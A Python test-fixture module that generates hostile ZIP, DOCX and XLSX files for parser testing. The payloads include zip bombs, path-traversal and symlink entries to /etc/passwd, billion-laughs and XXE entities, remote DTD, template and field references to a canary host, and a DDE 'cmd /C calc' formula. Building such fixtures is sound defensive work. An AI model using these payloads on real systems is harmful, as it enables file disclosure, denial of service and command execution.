"""Hostile archives, Word files and workbooks; and an honest file of each kind."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from functools import cache

from docx.oxml.ns import nsmap
from offices import excel, pdf, word_guide, word_paragraphs, zipped

Files = Iterator[tuple[str, bytes]]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = nsmap["w"]
S = W.split("/wordprocessingml")[0] + "/spreadsheetml/2006/main"
RELATIONS = W.split("/wordprocessingml")[0]
MEGA = 1 << 20
SHARED = '<c t="s"><v>0</v></c>'


@cache
def good() -> dict[str, bytes]:
    """One honest file of each kind, to be cut, flipped and disguised."""
    return {
        ".docx": word_guide(), ".xlsx": excel({"清单": [["事项名称", "部门"], ["轮椅借用", "市残联"]]}),
        ".pdf": pdf(["事项名称：轮椅借用", "受理条件：本市户籍。"]), ".json": b'[{"name": "x", "fees": ["40"]}]',
        ".html": "<html><body><h1>轮椅借用办事指南</h1><p>受理条件：有证。</p></body></html>".encode(),
        ".csv": "事项名称,部门\n轮椅借用,市残联\n".encode(), ".md": "# 轮椅借用\n\n受理条件：有证。\n".encode(),
        ".zip": zipped({"a.md": b"# x"}),
    }  # fmt: skip


def _with(base: bytes, parts: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    """An office file with some parts exchanged, added or dropped."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename not in parts and info.filename not in drop:
                new.writestr(info.filename, old.read(info))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def zips(_: str) -> Files:
    """Archives: too much in them, names that climb out, flags, other methods."""
    yield "bomb.zip", zipped({"a.md": b"\0" * (130 * MEGA)})
    yield "ratio.zip", zipped({"a.csv": b"a," * (20 * MEGA)})
    yield "many.zip", zipped({f"{n}.md": b"" for n in range(2500)})
    inner = zipped({"a.md": b"x"})
    for depth in range(5):
        inner = zipped({f"{depth}.zip": inner, "a.md": b"# x"})
        yield f"nested-{depth}.zip", inner
    for n, name in enumerate(("../a.md", "/etc/a.md", "a/../../b.md", "C:\\a.md", "..\\a.md", "\\\\host\\a.md", "a\0.md")):
        yield f"path-{n}.zip", zipped({name.replace("\0", "?"): b"# x"}).replace(b"a?.md", b"a\0.md")
    link = zipfile.ZipInfo("a.md")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "symlink.zip", out.getvalue()
    flagged = bytearray(zipped({"a.md": b"# x"}))
    flagged[6] |= 1
    flagged[flagged.index(b"PK\x01\x02") + 8] |= 1
    yield "locked.zip", bytes(flagged)
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as archive:
            archive.writestr("a.md", b"\0" * MEGA)
        yield f"method-{method}.zip", out.getvalue()
    sized = zipped({"a.md": b"x" * 5000})
    at = sized.index(b"PK\x01\x02") + 24
    yield "lying.zip", sized[:at] + struct.pack("<I", 10) + sized[at + 4 :]
    yield "mixed.zip", zipped({"a.docx": OLE, "b.xlsm": b"PK", "c.exe": b"MZ", "d.md": "# 甲".encode()})
    yield "twice.zip", zipped({"a.md": b"# x"}) + zipped({"b.md": b"# y"})
    yield "no-files.zip", zipped({})
    yield "entries-claimed.zip", b"PK\x05\x06" + b"\xff" * 18


def office(canary: str) -> Files:
    """What both office formats may carry: entities, macros, outside parts, floods of parts."""
    for suffix, main in ((".docx", "word/document.xml"), (".xlsx", "xl/workbook.xml")):
        base, kind = good()[suffix], suffix[1:]
        xml = zipfile.ZipFile(io.BytesIO(base)).read(main).decode()
        body = xml.split("?>", 1)[1]
        laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
        tricks = {
            "laughs": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>{body}',
            "file": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{body}',
            "net": f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{canary}/x.dtd">{body}',
            "parameter": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}/p">%p;]>{body}',
        }  # fmt: skip
        for name, text in tricks.items():
            yield f"{kind}-{name}{suffix}", _with(base, {main: text.encode()})
        yield f"{kind}-utf16{suffix}", _with(base, {main: tricks["net"].replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")})
        hidden = tricks["file"].replace('"1.0"?>', '"1.0" encoding="UTF-7"?>').replace("<!", "+ADwAIQ-")
        yield f"{kind}-utf7{suffix}", _with(base, {main: hidden.encode()})
        yield f"{kind}-deep{suffix}", _with(base, {main: ("<a>" * 200_000).encode()})
        yield f"{kind}-attributes{suffix}", _with(base, {main: ("<a " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>").encode()})
        yield f"{kind}-vba{suffix}", _with(base, {f"{main.split('/')[0]}/vbaProject.bin": OLE})
        types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml")
        macro = types.replace(b"officedocument.", b"x.").replace(b"main+xml", b"macroEnabled.main+xml")
        yield f"{kind}-macro-type{suffix}", _with(base, {"[Content_Types].xml": macro})
        yield f"{kind}-no-types{suffix}", _with(base, {}, ("[Content_Types].xml",))
        yield f"{kind}-no-main{suffix}", _with(base, {}, (main,))
        yield f"{kind}-bomb{suffix}", _with(base, {main: b"<a>" + b" " * (125 * MEGA)})
        yield f"{kind}-parts{suffix}", _with(base, {f"x/{n}.xml": b"<a/>" for n in range(3000)})
        yield f"{kind}-up{suffix}", _with(base, {"../../x.xml": b"<a/>"})
        yield f"{kind}-case{suffix}", _with(base, {main.upper(): b"<a/>"})
        rels = f"{main.rsplit('/', 1)[0]}/_rels/{main.rsplit('/', 1)[1]}.rels"
        outside = (
            f'<Relationships xmlns="{RELATIONS}/package/2006/relationships"><Relationship Id="rId99" '
            f'Type="{RELATIONS}/officeDocument/2006/relationships/attachedTemplate" '
            f'Target="{canary}/t.dotm" TargetMode="External"/></Relationships>'
        )
        yield f"{kind}-template{suffix}", _with(base, {rels: outside.encode()})
        yield f"{kind}-loop{suffix}", _with(base, {rels: outside.replace(f"{canary}/t.dotm", "document.xml").replace(' TargetMode="External"', "").encode()})


def word(canary: str) -> Files:
    """Word bodies: spans without end, merges without a start, nesting, floods, fields."""
    base = word_paragraphs([("标题", 1)])

    def body(text: str) -> bytes:
        return _with(base, {"word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>'.encode()})

    cell = "<w:tc><w:tcPr>{}</w:tcPr><w:p><w:r><w:t>甲</w:t></w:r></w:p></w:tc>"
    for n, mark in enumerate(('<w:gridSpan w:val="999999999"/>', '<w:gridSpan w:val="-5"/>', '<w:gridSpan w:val="x"/>',
                              '<w:vMerge/>', '<w:gridSpan w:val="1000"/><w:vMerge w:val="restart"/>')):  # fmt: skip
        yield f"span-{n}.docx", body(f"<w:tbl><w:tr>{cell.format(mark) * 3}</w:tr></w:tbl>")
    yield "before.docx", body(f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="99999999"/></w:trPr>{cell.format("")}</w:tr></w:tbl>')
    nested = "<w:p/>"
    for _ in range(60):
        nested = f"<w:tbl><w:tr><w:tc>{nested}<w:p/></w:tc></w:tr></w:tbl>"
    yield "nested-tables.docx", body(nested)
    yield "nested-controls.docx", body("<w:sdt><w:sdtContent>" * 100 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 100)
    yield "paragraphs.docx", body("<w:p><w:r><w:t>受理条件</w:t></w:r></w:p>" * 60_000)
    yield "rows.docx", body(f"<w:tbl>{f'<w:tr>{cell.format(chr(32))}</w:tr>' * 25_000}</w:tbl>")
    yield "wide.docx", body(f"<w:tbl><w:tr>{cell.format('') * 2000}</w:tr></w:tbl>")
    yield "long-text.docx", body(f"<w:p><w:r><w:t>{'条' * (9 * MEGA)}</w:t></w:r></w:p>")
    yield "field.docx", body(f'<w:p><w:fldSimple w:instr="INCLUDETEXT {canary}/x"><w:r><w:t>甲</w:t></w:r></w:fldSimple></w:p>')
    yield "empty-body.docx", body("")
    yield "no-body.docx", _with(base, {"word/document.xml": f'<w:document xmlns:w="{W}"/>'.encode()})
    yield "titles.docx", word_paragraphs([("甲办事指南", 1), ("受理条件", 2), ("有证。", 0)] * 300)
    yield "laws.docx", word_paragraphs([("设定依据", 2), ("《" * 2000, 0), ("《" + "甲" * 3000, 0), ("第一条" * 1000, 0)])
    yield "commas.docx", word_paragraphs([("事项名称：甲", 0), ("申请材料", 2), ("，" * 3900, 0), ("原件" * 1900, 0), ("收费标准", 2), ("、" * 3900, 0)])


def sheets(canary: str) -> Files:
    """Workbooks: cells far out, cells without end, merges over merges, strings that swell."""
    base = excel({"清单": [["事项名称", "部门"], ["轮椅借用", "市残联"]]})

    def sheet(text: str, more: str = "") -> bytes:
        xml = f'<?xml version="1.0"?><worksheet xmlns="{S}">{more.partition("|")[0]}<sheetData>{text}</sheetData>{more.partition("|")[2]}</worksheet>'
        return _with(base, {"xl/worksheets/sheet1.xml": xml.encode()})

    one = '<c r="{}" t="inlineStr"><is><t>甲</t></is></c>'
    yield "far.xlsx", sheet(f'<row r="1048576">{one.format("XFD1048576")}</row>')
    yield "far-column.xlsx", sheet(f'<row r="1">{one.format("XFD1")}</row>')
    yield "outside.xlsx", sheet(f'<row r="9999999">{one.format("ZZZ9999999")}</row>')
    yield "dimension.xlsx", sheet(f'<row r="1">{one.format("A1")}</row>', '<dimension ref="A1:XFD1048576"/>|')
    yield "million.xlsx", sheet("".join(f'<row r="{r}">{"".join(f"<c><v>{r * c}</v></c>" for c in range(1000))}</row>' for r in range(1, 1001)))
    yield "rows.xlsx", sheet("".join(f'<row r="{r}"><c><v>1</v></c></row>' for r in range(1, 30_000)))
    merges = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 400))
    yield "merges.xlsx", sheet(f'<row r="1">{one.format("A1")}</row>', f"|<mergeCells>{merges}</mergeCells>")
    yield "merge-back.xlsx", sheet(f'<row r="1">{one.format("A1")}</row>', '|<mergeCells><mergeCell ref="C3:A1"/><mergeCell ref="x"/></mergeCells>')
    strings = f'<sst xmlns="{S}"><si><t>{"条" * 32_000}</t></si></sst>'.encode()
    shared = "".join(f'<row r="{r}">{SHARED * 100}</row>' for r in range(1, 301))
    yield "swelling-strings.xlsx", _with(sheet(shared), {"xl/sharedStrings.xml": strings})
    for n, value in enumerate(("1e999", "-1e999", "NaN", "999999999999999999999", "", "=1+1", "0x10")):
        yield f"value-{n}.xlsx", sheet(f'<row r="1"><c r="A1"><v>{value}</v></c></row>')
    for n, mark in enumerate(("A0", "0A", "a1", "A1048577", "甲1", "-1")):
        yield f"reference-{n}.xlsx", sheet(f'<row r="1">{one.format(mark)}</row>')
    yield "string-index.xlsx", sheet('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>')
    yield "dde.xlsx", sheet("<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>")
    yield "web.xlsx", sheet(f'<row r="1"><c r="A1"><f>WEBSERVICE("{canary}/w")</f><v>0</v></c></row>')
    yield "formulas.xlsx", excel({"清单": [["事项名称", "部门"], ["'=HYPERLINK(1)", "@SUM(1)"]]})
    yield "labels.xlsx", excel({"甲": [["受理条件"] * 250 for _ in range(200)]})
    yield "names.xlsx", excel({"甲": [["事项名称", "部门"], *([["轮椅借用", "市残联"]] * 4000)]})
    yield "sheets.xlsx", excel({f"表{n}": [["事项名称", f"甲{n}"], ["受理条件", "有证。"]] for n in range(200)})
